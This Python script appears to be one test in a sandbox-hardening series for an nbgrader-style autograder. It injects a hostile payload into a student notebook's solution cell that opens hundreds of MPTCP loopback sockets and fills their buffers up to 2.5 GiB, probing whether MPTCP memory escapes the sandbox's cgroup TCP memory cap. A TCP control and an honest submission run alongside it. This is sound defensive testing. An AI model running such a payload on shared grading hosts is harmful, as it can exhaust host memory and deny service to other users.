"""a04: socket memory of IPPROTO_MPTCP (262), a protocol of AF_INET the seccomp filter lets through (round 25 a01:
socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP) succeeds in the sandbox). TCP's buffers are capped per sandbox
(kmem.tcp 256 MiB on cgroup v1, round 13); are MPTCP's? The hostile kernel (ps1's first answer cell) opens an MPTCP
listener on loopback, connects up to 600 MPTCP sockets to it, accepts them, and writes into each (non-blocking) until
it blocks, never reading; it stops at 2.5 GiB written (the shared host's budget). PROTO=6 runs the same with TCP
(the control: kmem.tcp should stop it). From outside: the sandbox cgroup's memory and kmem.tcp peaks, and the host's
MemAvailable drop. Mallory + honest control."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common25 import *  # noqa
from common25 import ROOT  # noqa

A = "ps1_memory"
PROTO = int(os.environ.get("PROTO", "262"))
PAYLOAD = r'''
import socket as _s4, time as _t4
def _avail4():
    for l in open("/proc/meminfo"):
        if l.startswith("MemAvailable"):
            return int(l.split()[1]) * 1024
_a0 = _avail4()
_lst = _s4.socket(_s4.AF_INET, _s4.SOCK_STREAM, PROTO4)
_lst.bind(("127.0.0.1", 0)); _lst.listen(1024)
_port = _lst.getsockname()[1]
_pairs, _total, _why, _t0 = [], 0, "done", _t4.time()
_chunk = b"x" * (1 << 20)
try:
    for i in range(600):
        c = _s4.socket(_s4.AF_INET, _s4.SOCK_STREAM, PROTO4)
        c.connect(("127.0.0.1", _port))
        a, _ = _lst.accept()
        c.setblocking(False)
        _pairs.append((c, a))
        while True:
            try:
                n = c.send(_chunk)
            except BlockingIOError:
                break
            _total += n
        if i % 50 == 0:
            print("MPTCP", i, "written MiB", _total >> 20, "host MemAvailable drop MiB", (_a0 - _avail4()) >> 20, flush=True)
        if _total > 2560 << 20:
            _why = "2.5 GiB budget"; break
except OSError as ex:
    _why = f"{type(ex).__name__} {ex}"
print("MPTCP done proto", PROTO4, "connections", len(_pairs), "written MiB", _total >> 20, "host MemAvailable drop MiB", (_a0 - _avail4()) >> 20, "stop:", _why, "in", round(_t4.time() - _t0, 1), "s", flush=True)
_t4.sleep(6)
for c, a in _pairs:
    c.close(); a.close()
'''.replace("PROTO4", str(PROTO))


def hostile():
    from tools.submissions import source_and_release
    import copy
    s, r = source_and_release(A)
    nb = copy.deepcopy(r)
    for c in nb.cells:
        if c.cell_type == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution"):
            c.source = PAYLOAD + "\n" + c.source
            break
    return nb


def main():
    dest = f"/tmp/attack25-a04-{PROTO}"
    course(dest, {"mallory": hostile(), "zz_honest": honest(A)}, A)
    s = Sampler(0.5); s.start()
    rc = grade(dest)
    s.stop = True; s.join()
    print("SAMPLER", s.summary())
    sc = scores(dest)
    import glob, nbformat
    for pth in glob.glob(f"{dest}/autograded/mallory/{A}/*.ipynb"):
        nb = nbformat.read(pth, as_version=4)
        for c in nb.cells:
            for o in c.get("outputs", []):
                for line in (o.get("text", "") or "").splitlines():
                    if line.startswith("MPTCP"):
                        print(line[:400])
                if o.get("output_type") == "error":
                    print("ERROR", o.get("ename"), o.get("evalue", "")[:200])
    print(f"RESULT: rc={rc} scores {[(s, v['score'], v['max']) for s, v in sorted(sc.items())]}")
    cleanup(dest)


if __name__ == "__main__":
    main()
